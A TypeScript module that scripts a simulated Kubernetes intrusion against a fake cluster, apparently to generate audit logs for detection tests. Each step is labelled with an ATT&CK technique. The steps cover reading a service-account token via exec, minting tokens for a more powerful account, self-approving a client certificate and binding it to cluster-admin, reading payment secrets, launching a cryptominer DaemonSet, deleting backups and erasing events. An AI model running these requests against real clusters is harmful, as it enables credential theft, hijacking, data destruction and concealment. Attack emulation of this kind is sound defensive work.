import { AGENTS, at, credentialId, forwarded, until } from "./actors.ts";
import type { Credential } from "./actors.ts";
import { binding, podSpec, workload } from "./setting.ts";
import type { Scene, Step } from "./step.ts";

/** Addresses for documentation (RFC 5737): nothing answers there. */
const HOME_OFFICE = "198.51.100.23";
const FIRST_HIDEOUT = "203.0.113.77";
const SECOND_HIDEOUT = "203.0.113.140";
const LAUNCH = "foothold-deployment";
const SIGNED = "node-telemetry-7f";

const LINKS: readonly Step[] = [
  {
    label: "foothold-recon",
    technique: "T1613",
    principal: "dev-dana",
    deeds: [],
    uses: "dev-dana",
    note: "the certificate of dev-dana, used through a proxy for an address that is not hers",
    run: async (scene) => {
      const dana = scene.actors.certificate("dev-dana");
      scene.credentials.set("dev-dana", dana);
      const headers = forwarded(HOME_OFFICE, AGENTS.kubectl);
      const rules = {
        apiVersion: "authorization.k8s.io/v1",
        kind: "SelfSubjectRulesReview",
        spec: { namespace: "shop" },
      };
      await scene.actors.send(dana, "POST", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", {
        headers,
        body: rules,
      });
      await scene.actors.send(dana, "GET", "/api/v1/namespaces/shop/serviceaccounts?limit=500", { headers });
    },
  },
  {
    label: LAUNCH,
    technique: "T1610",
    principal: "dev-dana",
    deeds: ["create:deployments"],
    uses: "dev-dana",
    run: ({ actors }) =>
      actors.kubectl(
        "dev-dana",
        ["create"],
        workload(
          "Deployment",
          "shop",
          "image-cache",
          podSpec("registry.example/shop/cache:9", {}, { serviceAccountName: "deployer" }),
          {
            replicas: 1,
          },
        ),
      ),
  },
  {
    label: "foothold-replicaset",
    technique: "T1610",
    principal: "system:serviceaccount:kube-system:deployment-controller",
    deeds: ["create:replicasets"],
    follows: { label: LAUNCH, about: () => "image-cache" },
    run: (scene) => until("the ReplicaSet", () => listed(scene, "apis/apps/v1", "replicasets")),
  },
  {
    label: "foothold-pod",
    technique: "T1610",
    principal: "system:serviceaccount:kube-system:replicaset-controller",
    deeds: ["create:pods"],
    follows: { label: LAUNCH, about: () => "image-cache" },
    run: (scene) =>
      until("the pod on its node", async () => {
        const pod = await listed(scene, "api/v1", "pods");
        const node = at(pod, "spec", "nodeName");
        const isRunning = at(pod, "status", "phase") === "Running";
        if (!isRunning || typeof node !== "string") return undefined;
        scene.facts.set("pod", String(at(pod, "metadata", "name")));
        scene.facts.set("pod-uid", String(at(pod, "metadata", "uid")));
        scene.facts.set("node", node);
        return node;
      }),
  },
  {
    label: "foothold-scheduled",
    technique: "T1610",
    principal: "system:kube-scheduler",
    deeds: ["create:pods/binding"],
    follows: { label: LAUNCH, about: ({ facts }) => facts.get("pod") ?? "" },
    run: () => Promise.resolve(),
  },
  {
    label: "foothold-node-token",
    technique: "T1528",
    principal: "system:node",
    deeds: [],
    gets: "pod-token",
    note: "kwok asks for no token: the recording sends what a kubelet sends, with the certificate of the pod's node",
    run: async (scene) => {
      const node = scene.facts.get("node") ?? "";
      const token = await mint(scene, scene.actors.certificate(`system:node:${node}`), "shop", "deployer", {
        headers: { "User-Agent": AGENTS.kubelet },
        spec: {
          expirationSeconds: 3607,
          boundObjectRef: {
            kind: "Pod",
            apiVersion: "v1",
            name: scene.facts.get("pod"),
            uid: scene.facts.get("pod-uid"),
          },
        },
      });
      scene.credentials.set("pod-token", { token });
    },
  },
  {
    label: "foothold-exec",
    technique: "T1609",
    principal: "dev-dana",
    deeds: ["get:pods/exec", "create:pods/exec"],
    uses: "dev-dana",
    note: "the fake kubelet runs nothing",
    run: ({ actors, facts }) => {
      const command = ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"];
      return actors.kubectl("dev-dana", ["-n", "shop", "exec", facts.get("pod") ?? "", "--", ...command]);
    },
  },
  {
    label: "stolen-token-recon",
    technique: "T1613",
    principal: "system:serviceaccount:shop:deployer",
    deeds: [],
    uses: "pod-token",
    note: "the pod's token, used through a proxy for an address that is neither the pod's nor the node's",
    run: async (scene) => {
      const headers = forwarded(FIRST_HIDEOUT);
      const token = scene.credentials.get("pod-token");
      const rules = {
        apiVersion: "authorization.k8s.io/v1",
        kind: "SelfSubjectRulesReview",
        spec: { namespace: "shop" },
      };
      await scene.actors.send(token, "POST", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", {
        headers,
        body: rules,
      });
      await scene.actors.send(token, "GET", "/api/v1/namespaces/kube-system/serviceaccounts", { headers });
      await scene.actors.send(token, "GET", "/api/v1/namespaces/shop/secrets/db-credentials", { headers });
      await scene.actors.send(token, "GET", "/api/v1/nodes", { headers });
    },
  },
  {
    label: "stolen-token-mints-token",
    technique: "T1528",
    principal: "system:serviceaccount:shop:deployer",
    deeds: [],
    uses: "pod-token",
    gets: "operator-token",
    run: async (scene) => {
      const token = await mint(scene, scene.credentials.get("pod-token"), "kube-system", "backup-operator", {
        headers: forwarded(FIRST_HIDEOUT),
        spec: { expirationSeconds: 172_800 },
      });
      scene.credentials.set("operator-token", { token });
    },
  },
  {
    label: "minted-token-reads-secrets",
    technique: "T1552.007",
    principal: "system:serviceaccount:kube-system:backup-operator",
    deeds: [],
    uses: "operator-token",
    run: ({ actors, credentials }) =>
      actors.send(credentials.get("operator-token"), "GET", "/api/v1/namespaces/payments/secrets", {
        headers: forwarded(FIRST_HIDEOUT),
      }),
  },
  {
    label: "certificate-requested",
    technique: "T1098",
    principal: "system:serviceaccount:kube-system:backup-operator",
    deeds: [],
    uses: "operator-token",
    run: async (scene) => {
      const subject = "/O=platform-telemetry/CN=ops-shadow";
      const { key, request } = await scene.actors.certificateRequest("shadow", subject);
      scene.facts.set("certificate-key", key);
      await scene.actors.send(
        scene.credentials.get("operator-token"),
        "POST",
        "/apis/certificates.k8s.io/v1/certificatesigningrequests",
        {
          headers: forwarded(FIRST_HIDEOUT),
          body: {
            apiVersion: "certificates.k8s.io/v1",
            kind: "CertificateSigningRequest",
            metadata: { name: SIGNED },
            spec: {
              request: Buffer.from(request).toString("base64"),
              signerName: "kubernetes.io/kube-apiserver-client",
              usages: ["client auth"],
              expirationSeconds: 31_536_000,
            },
          },
        },
      );
    },
  },
  {
    label: "certificate-approved-by-requester",
    technique: "T1098",
    principal: "system:serviceaccount:kube-system:backup-operator",
    deeds: [],
    uses: "operator-token",
    run: async (scene) => {
      const token = scene.credentials.get("operator-token");
      const path = `/apis/certificates.k8s.io/v1/certificatesigningrequests/${SIGNED}`;
      const { body } = await scene.actors.send(token, "GET", path, { headers: forwarded(FIRST_HIDEOUT) });
      const approval = { type: "Approved", status: "True", reason: "AutoApproved", message: "telemetry" };
      const approved = { ...(body as object), status: { conditions: [approval] } };
      await scene.actors.send(token, "PUT", `${path}/approval`, { headers: forwarded(FIRST_HIDEOUT), body: approved });
    },
  },
  {
    label: "certificate-signed",
    technique: "T1098",
    principal: "system:serviceaccount:kube-system:certificate-controller",
    deeds: ["update:certificatesigningrequests/status"],
    follows: { label: "certificate-approved-by-requester", about: () => SIGNED },
    run: () => new Promise((resolve) => setTimeout(resolve, 1500)),
  },
  {
    label: "certificate-fetched",
    technique: "T1098",
    principal: "system:serviceaccount:kube-system:backup-operator",
    deeds: [],
    uses: "operator-token",
    gets: "shadow-certificate",
    run: async (scene) => {
      const path = `/apis/certificates.k8s.io/v1/certificatesigningrequests/${SIGNED}`;
      const signed = await until("the certificate", async () => {
        const token = scene.credentials.get("operator-token");
        const { body } = await scene.actors.send(token, "GET", path, { headers: forwarded(FIRST_HIDEOUT) });
        const certificate = at(body, "status", "certificate");
        return typeof certificate === "string" ? Buffer.from(certificate, "base64").toString() : undefined;
      });
      const key = scene.facts.get("certificate-key") ?? "";
      scene.facts.delete("certificate-key");
      scene.credentials.set("shadow-certificate", { cert: signed, key, certFile: "", keyFile: "" });
    },
  },
  {
    label: "group-of-certificate-bound",
    technique: "T1098.006",
    principal: "system:serviceaccount:kube-system:backup-operator",
    deeds: [],
    uses: "operator-token",
    run: ({ actors, credentials }) =>
      actors.send(credentials.get("operator-token"), "POST", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", {
        headers: forwarded(FIRST_HIDEOUT),
        body: binding("platform-telemetry", "cluster-admin", { kind: "Group", name: "platform-telemetry" }),
      }),
  },
  {
    label: "certificate-first-used",
    technique: "T1078",
    principal: "ops-shadow",
    deeds: [],
    uses: "shadow-certificate",
    note: "the right that the binding of the step before has just granted",
    run: ({ actors, credentials }) =>
      actors.send(credentials.get("shadow-certificate"), "GET", "/api/v1/namespaces", {
        headers: forwarded(SECOND_HIDEOUT, AGENTS.python),
      }),
  },
  {
    label: "certificate-reads-secrets-one-by-one",
    technique: "T1552.007",
    principal: "ops-shadow",
    deeds: [],
    uses: "shadow-certificate",
    run: async ({ actors, credentials }) => {
      for (const name of ["card-vault", "bank-gateway", "ledger-db", "mail-relay", "fraud-api", "tls-internal"]) {
        await actors.send(credentials.get("shadow-certificate"), "GET", `/api/v1/namespaces/payments/secrets/${name}`, {
          headers: forwarded(SECOND_HIDEOUT, AGENTS.python),
        });
      }
    },
  },
  {
    label: "certificate-starts-miner",
    technique: "T1496",
    principal: "ops-shadow",
    deeds: [],
    uses: "shadow-certificate",
    run: ({ actors, credentials }) => {
      const spec = podSpec(
        "docker.io/library/telemetry:latest",
        { command: ["sh", "-c", "/opt/xmrig -o stratum+tcp://pool.invalid:3333"] },
        { tolerations: [{ operator: "Exists" }], hostPID: true },
      );
      return actors.send(
        credentials.get("shadow-certificate"),
        "POST",
        "/apis/apps/v1/namespaces/kube-system/daemonsets",
        {
          headers: forwarded(SECOND_HIDEOUT, AGENTS.python),
          body: workload("DaemonSet", "kube-system", "node-telemetry", spec),
        },
      );
    },
  },
  {
    label: "certificate-destroys-backups",
    technique: "T1490",
    principal: "ops-shadow",
    deeds: [],
    uses: "shadow-certificate",
    run: async ({ actors, credentials }) => {
      const paths = [
        "/apis/velero.io/v1/namespaces/payments/backups/nightly",
        "/apis/snapshot.storage.k8s.io/v1/namespaces/payments/volumesnapshots/ledger-nightly",
        "/api/v1/namespaces/payments/persistentvolumeclaims/ledger",
      ];
      for (const path of paths) {
        await actors.send(credentials.get("shadow-certificate"), "DELETE", path, {
          headers: forwarded(SECOND_HIDEOUT, AGENTS.python),
        });
      }
    },
  },
  {
    label: "certificate-removes-traces",
    technique: "T1070",
    principal: "ops-shadow",
    deeds: [],
    uses: "shadow-certificate",
    note: "the last step of the chain",
    run: async ({ actors, credentials }) => {
      for (const path of ["/api/v1/namespaces/shop/events", "/apis/apps/v1/namespaces/shop/deployments/image-cache"]) {
        await actors.send(credentials.get("shadow-certificate"), "DELETE", path, {
          headers: forwarded(SECOND_HIDEOUT, AGENTS.python),
        });
      }
    },
  },
];

/**
 * From the first foothold to the last step: a person's certificate, used from an address that is not hers, makes a
 * Deployment; its pod's token is taken away and used elsewhere; with it comes the token of a mightier account, with that a
 * certificate under a name of its own, and with that the end of the data.
 */
export const CHAIN: readonly Step[] = LINKS.map((step, index) => ({ ...step, chain: index + 1 }));

/** After the chain: what is left of the pod's token once its pod is gone. */
export const LEFT_OVER: readonly Step[] = [
  {
    label: "token-of-deleted-pod-used",
    technique: "T1550.001",
    principal: "system:serviceaccount:shop:deployer",
    deeds: [],
    uses: "pod-token",
    note: "the apiserver remembers a good token for some seconds: the first requests may be answered, the later ones get 401",
    run: async (scene) => {
      await until("the end of the pod", async () =>
        (await listed(scene, "api/v1", "pods")) === undefined ? true : undefined,
      );
      for (let count = 0; count < 6; count++) {
        await scene.actors.send(scene.credentials.get("pod-token"), "GET", "/api/v1/namespaces/shop/pods", {
          headers: forwarded(FIRST_HIDEOUT),
        });
        await new Promise((resolve) => setTimeout(resolve, 2500));
      }
    },
  },
];

/** What was found of image-cache in the namespace shop, asked by the administrator. */
async function listed({ actors }: Scene, group: string, resource: string): Promise<unknown> {
  const path = `/${group}/namespaces/shop/${resource}?labelSelector=app%3Dimage-cache`;
  return at(await actors.look(path), "items", 0);
}

async function mint(
  { actors }: Scene,
  who: Credential,
  namespace: string,
  account: string,
  { headers, spec }: { readonly headers: Readonly<Record<string, string>>; readonly spec: object },
): Promise<string> {
  const path = `/api/v1/namespaces/${namespace}/serviceaccounts/${account}/token`;
  const body = { apiVersion: "authentication.k8s.io/v1", kind: "TokenRequest", spec };
  const answer = await actors.send(who, "POST", path, { headers, body });
  const token = at(answer.body, "status", "token");
  if (typeof token !== "string") throw new Error(`Cannot get a token of ${account}: ${JSON.stringify(answer.body)}`);
  return token;
}

/** Names each credential of the chain as the log names it. */
export function credentialIds(scene: Scene): Readonly<Record<string, string>> {
  const known = [...scene.credentials].map(([name, credential]) => [name, credentialId(credential) ?? ""] as const);
  return Object.fromEntries(known);
}
